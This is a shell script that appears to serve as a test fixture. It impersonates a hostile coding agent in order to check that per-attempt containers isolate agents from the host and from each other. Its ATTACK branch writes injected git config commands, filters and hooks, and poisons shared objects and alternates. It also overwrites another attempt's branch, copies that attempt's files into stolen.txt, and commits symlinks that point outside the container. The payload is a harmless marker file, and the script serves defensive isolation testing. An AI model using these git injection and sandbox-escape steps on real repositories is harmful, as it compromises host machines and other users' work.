#!/bin/sh
# A hostile coding agent for the isolation tests (THREAT-MODEL "How we test it"). With a prompt that
# starts with ATTACK it tries, from inside its container, everything an agent could use to reach the
# host or other attempts, then makes one legitimate commit; any other prompt behaves like fake_agent.sh.
# Prompt: ATTACK <victim branch> <host marker file> <victim worktree> <outside dir>
# the prompt arrives as one stream-json user message: keep its text, newlines as spaces
prompt=$(sed -e 's/.*"content": *"//' -e 's/"}}$//' -e 's/\\n/ /g')
echo '{"type":"system","subtype":"init","session_id":"sess-attack-1"}'
set -- $prompt
if [ "$1" != ATTACK ]; then
  printf '%s\n' "$prompt" > agent.txt
  echo '{"type":"result","subtype":"success","is_error":false,"result":"ordinary"}'
  exit 0
fi
victim=$2 marker=$3 victim_worktree=$4 outside=$5
log() { echo "$*" >> attack.log; }
# Each payload would create $marker if it ran on the host. In here it fails harmlessly (the host path does
# not exist in the container) and then behaves, so the agent's own repository keeps working.
run="touch $marker"
alt=$(cat .git/objects/info/alternates 2>/dev/null)
projgit=$(dirname "${alt:-/nonexistent/objects}")
log "own git dir: $(git rev-parse --git-dir) alternates: $alt"
echo payload > payload.poison
git add payload.poison  # staged before the filter exists; a checkout of it on the host would run smudge

# 1. poison every git config, attributes file and hook directory within reach (the common dir is the
#    project's .git when the attempt is a linked worktree of it)
common=$(git rev-parse --path-format=absolute --git-common-dir)
for cfg in .git/config "$common/config" "$projgit/config"; do
  for kv in "filter.x.smudge=$run; cat" "filter.x.clean=$run; cat" "core.fsmonitor=$run; exit 1" \
            "core.sshCommand=$run" "core.pager=$run; cat" "include.path=$outside/evil.cfg" \
            "core.hooksPath=.git/evil-hooks"; do
    git config -f "$cfg" "${kv%%=*}" "${kv#*=}" 2>/dev/null && log "wrote $kv to $cfg" || log "blocked: $cfg"
  done
done
git config -f "$projgit/config" core.worktree "$outside" 2>/dev/null && log "wrote core.worktree to $projgit"
for info in .git/info "$common/info" "$projgit/info"; do
  { mkdir -p "$info" && echo '*.poison filter=x diff=x' >> "$info/attributes"; } 2>/dev/null \
    && log "wrote $info/attributes" || log "blocked: $info/attributes"
done
printf '*.poison filter=x\n' > .gitattributes
for hooks in .git/hooks .git/evil-hooks "$common/hooks" "$projgit/hooks"; do
  for h in post-checkout pre-commit post-commit post-merge post-rewrite reference-transaction pre-rebase; do
    { mkdir -p "$hooks" && printf '#!/bin/sh\n%s\nexit 0\n' "$run" > "$hooks/$h" && chmod +x "$hooks/$h"; } \
      2>/dev/null && log "hook $hooks/$h" || log "blocked: $hooks/$h"
  done
done
{ echo poison > "$alt/poison"; } 2>/dev/null && log "wrote into the shared objects" || log "blocked: objects"
{ echo "$outside" >> .git/objects/info/alternates; } 2>/dev/null && log "own alternates extended"

# 2. move another attempt's branch, by name and through the project's repository
git update-ref "refs/heads/$victim" HEAD 2>/dev/null && log "moved own copy of $victim"
git --git-dir="$projgit" update-ref "refs/heads/$victim" HEAD 2>/dev/null && log "moved $projgit $victim"
{ mkdir -p "$projgit/refs/heads/${victim%/*}" && echo 0000000000000000000000000000000000000000 \
  > "$projgit/refs/heads/$victim"; } 2>/dev/null && log "wrote $projgit/refs/heads/$victim"

# 3. read another attempt's files and branch
{ ls "$victim_worktree"; cat "$victim_worktree/agent.txt"; git rev-parse "refs/heads/$victim"; \
  git --git-dir="$projgit" rev-parse "refs/heads/$victim"; } > stolen.txt 2>&1

# 4. a symlink named like a copy_files entry, pointing outside, committed with the legitimate work
rm -f config.env && ln -s "$outside/target.txt" config.env
mkdir -p linkdir && ln -s "$outside" linkdir/escape

# 5. the legitimate commit (through the poisoned config: the hooks run here, in the container)
echo legit > legit.txt
git add -f legit.txt config.env .gitattributes linkdir
git commit -q -m "attacker's legitimate commit" || log "commit failed"
echo '{"type":"result","subtype":"success","is_error":false,"result":"attacked"}'
